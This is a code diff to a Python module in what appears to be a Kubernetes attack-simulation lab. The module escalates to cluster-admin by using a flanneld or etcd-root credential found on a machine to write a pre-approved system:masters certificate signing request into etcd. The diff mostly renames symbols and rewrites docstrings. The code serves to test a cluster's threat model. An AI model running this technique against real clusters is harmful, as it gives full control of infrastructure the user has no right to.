@@ -1,7 +1,10 @@
-"""Become cluster-admin by writing into etcd with a credential that lies on the machine.
+"""Become cluster-admin by writing into etcd with a credential that is on the machine.
 
-On a worker that is flanneld's, on a machine of etcd it is that of etcd's own administrator:
-what keeps the first to its own keys (etcd's users) is no help against the second.
+On a worker, the credential is flanneld's; on an etcd machine, it is that of etcd's administrator.
+The attacker needs root on the machine. They write a certificate signing request for
+``system:masters`` that is already marked as approved, and the controller manager signs it. Users
+in etcd keep flanneld to its own keys, which stops it on a worker. Nothing stops root on an etcd
+machine.
 """
 
 from __future__ import annotations
@@ -14,7 +17,7 @@ from labkit.errors import ProbeError, ProbeTimeout
 from labkit.model import Channel, Foothold, Model, read_model
 from labkit.model.credentials import client_credential
 from labkit.techniques._lib.machines.reach import Answer, inside, run_from
-from labkit.techniques._lib.stores import forge as _forge
+from labkit.techniques._lib.stores import forge as forging
 from labkit.techniques._lib.technique import (
     ADMIN,
     ROOT_ON_ETCD,
@@ -31,13 +34,13 @@ __all__ = ["TECHNIQUE"]
 
 CHANNEL = "flanneld@worker1 -> etcd@*"
 TAKEN = "etcd takes it from whoever holds this credential; Kubernetes believes etcd"
-#: What etcd says to somebody whom it does not let write there.
+#: etcd's error for a user who may not write to the key.
 REFUSAL = "permission denied"
 
 
 @dataclass(frozen=True, slots=True)
-class _Held:
-    """etcd, asked with etcdctl and what the machine holds."""
+class _CredentialStore:
+    """etcd through etcdctl, with the credential of the machine."""
 
     lab: Lab
     foothold: Foothold
@@ -46,7 +49,7 @@ class _Held:
     def put(self, key: str, value: bytes) -> Answer:
         output = self._run("put", key, stdin=value)
         if output.exit_code and REFUSAL not in output.error:
-            raise ProbeError("etcd's answer says nothing", evidence=_tail(output))
+            raise ProbeError("etcd gave no known refusal", evidence=_tail(output))
         return Answer(0, b"", f"etcd: {REFUSAL}" if output.exit_code else "")
 
     def get(self, key: str) -> bytes:
@@ -63,7 +66,7 @@ class _Held:
 
 
 def predict(model: Model, foothold: Foothold) -> Prediction:
-    """Say what the model says: how far etcd opens to what the machine holds."""
+    """Predict whether the credential on the machine may write to any key of etcd."""
     claim = model.open_channels(CHANNEL)[0].authorization
     if foothold == ROOT_ON_ETCD:
         return Prediction(True, (f"etcd's administrator writes everything: {claim.source}",))
@@ -71,17 +74,17 @@ def predict(model: Model, foothold: Foothold) -> Prediction:
 
 
 def execute(lab: Lab, foothold: Foothold) -> Verdict:
-    """Write a request that nobody approved, and have it signed."""
+    """Write an approved certificate request into etcd, and use the signed certificate."""
     if foothold == ROOT_ON_ETCD:
         argv = agents.argv("as_etcd_root", "etcdctl", "--command-timeout=4s")
-        store = _Held(lab, foothold, tuple(argv))
+        store = _CredentialStore(lab, foothold, tuple(argv))
         how = "as etcd's administrator"
     else:
         model = read_model(lab.environment)
         channel = model.open_channels(CHANNEL)[0]
-        store = _Held(lab, foothold, tuple(_as_flanneld(lab, model, channel)))
+        store = _CredentialStore(lab, foothold, tuple(_as_flanneld(lab, model, channel)))
         how = "as flanneld"
-    return _forge.forge(lab, TECHNIQUE.name, foothold, store, how, TAKEN)
+    return forging.forge(lab, TECHNIQUE.name, foothold, store, how, TAKEN)
 
 
 def _as_flanneld(lab: Lab, model: Model, channel: Channel) -> list[str]:
@@ -89,9 +92,9 @@ def _as_flanneld(lab: Lab, model: Model, channel: Channel) -> list[str]:
     inside(lab, server)
     argv = ["etcdctl", "--command-timeout=4s"]
     argv.append(f"--endpoints={channel.protocol}://{server}:{channel.port}")
-    if held := client_credential(model, channel):
-        authority = next(a for a in lab.environment.authorities if a.name == held.signed_by)
-        argv += [f"--cert={held.certificate}", f"--key={held.key}"]
+    if credential := client_credential(model, channel):
+        authority = next(a for a in lab.environment.authorities if a.name == credential.signed_by)
+        argv += [f"--cert={credential.certificate}", f"--key={credential.key}"]
         argv.append(f"--cacert={authority.certificate}")
     return argv
 
@@ -110,7 +113,7 @@ TECHNIQUE = Technique(
     attack=("T1565.001", "T1552.004", "T1098"),
     stride=("tampering", "elevation of privilege"),
     cwe=("CWE-269", "CWE-345"),
-    sources=(*_forge.SOURCES, "https://etcd.io/docs/latest/op-guide/authentication/rbac/"),
+    sources=(*forging.SOURCES, "https://etcd.io/docs/latest/op-guide/authentication/rbac/"),
     predict=predict,
     execute=execute,
 )
